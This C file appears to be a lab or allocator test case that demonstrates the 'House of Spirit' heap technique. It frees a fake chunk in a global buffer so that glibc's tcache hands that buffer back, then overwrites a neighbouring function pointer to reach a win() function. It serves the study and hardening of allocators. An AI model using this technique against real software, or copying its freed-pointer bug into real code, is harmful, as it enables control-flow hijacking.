/* Freeing a fake block ("House of Spirit"): the program frees a pointer taken from a request
 * the attacker controls. The attacker points it into a global buffer where they wrote a fake
 * chunk header; glibc's tcache takes the fake block, and the next allocation of that size
 * returns the global buffer, whose neighbour is a function pointer. */
#include "lab.h"

static struct {
    uint64_t prev_size, size;
    char data[0x20];
    void (*on_exit)(void); /* the program's own hook, right after the buffer */
    uint64_t pad;
} __attribute__((aligned(16))) globals;

static void exit_normally(void) { puts("exit hook ran normally"); }
static void win(void) { pwned("freeing a fake block made malloc return a global, and the hook was overwritten"); }

int main(void) {
    lab_init();
    globals.on_exit = exit_normally;
    globals.size = 0x40; /* the fake header, written by the attacker into the buffer */
    void *request_ptr = globals.data;
    free(request_ptr); /* the bug: freeing a pointer the attacker chose */
    char *buf = alloc_typed(0x38, DATA_TYPE(17)); /* on glibc: globals.data */
    unsigned char input[0x28];
    memset(input, 'B', 0x20);
    void (*target)(void) = win;
    memcpy(input + 0x20, &target, 8);
    memcpy(buf, input, sizeof input); /* in bounds of the 0x38-byte buffer */
    globals.on_exit();
    free(buf);
    noeffect("malloc did not return the fake block");
    return 0;
}
